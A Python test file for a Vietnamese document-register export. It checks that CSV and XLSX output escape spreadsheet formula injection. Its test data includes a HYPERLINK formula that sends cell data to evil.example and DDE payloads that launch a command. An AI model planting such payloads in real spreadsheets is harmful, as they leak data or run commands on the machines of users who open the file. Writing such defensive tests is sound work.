"""The register book as a spreadsheet: what a clerk typed is shown, never evaluated."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from registry.composer.book import BookCover
from registry.services.archive.importing import ImportOutcome, ImportStatus, outcomes_csv
from registry.services.archive.register_book import BookRow, book_csv, book_xlsx, inert

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
COVER = BookCover(
    "ĐẢNG BỘ TỈNH HÀ TĨNH", "Đảng ủy Khối", "SỔ ĐĂNG KÝ VĂN BẢN ĐI", "Năm 2026", "", ""
)


def _row(recipients: str, note: str) -> BookRow:
    return BookRow(
        number="01-TB/ĐUK",
        date="02/01/2026",
        type_and_subject="Thông báo",
        signer="Nguyễn Trọng Vân",
        recipients=recipients,
        archive_unit="Lưu VP",
        copies=2,
        sent_on="",
        received_by="",
        note=note,
        document_id=1,
    )


@pytest.mark.parametrize("typed", HOSTILE)
def test_a_formula_typed_as_a_recipient_or_a_reason_stays_text_in_csv(typed: str) -> None:
    data = book_csv([_row(typed, typed)]).decode("utf-8-sig")
    (header, row) = list(csv.reader(io.StringIO(data)))
    cells = dict(zip(header, row, strict=True))
    recipients = next(value for name, value in cells.items() if name == "Nơi nhận văn bản")
    assert recipients == "'" + typed and row[-1] == "'" + typed


def test_ordinary_text_is_left_as_it_is() -> None:
    for text in ("Thường trực Tỉnh ủy", "01-TB/ĐUK", "'đã có dấu nháy", ""):
        assert inert(text) == text


def test_no_cell_of_the_workbook_is_a_formula() -> None:
    data = book_xlsx([_row(typed, typed) for typed in HOSTILE], COVER)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    written = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value]
    assert {cell.data_type for cell in written if isinstance(cell.value, str)} == {"s"}
    assert [sheet.cell(row=3 + i, column=5).value for i in range(len(HOSTILE))] == list(HOSTILE)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_the_import_report_neutralises_file_names_and_notes() -> None:
    outcome = ImportOutcome("=cmd.pdf", ImportStatus.UNREADABLE, notes=("@x",))
    (_, row) = list(csv.reader(io.StringIO(outcomes_csv([outcome]).decode("utf-8-sig"))))
    assert row[0] == "'=cmd.pdf" and row[1] == "unreadable" and row[-1] == "'@x"
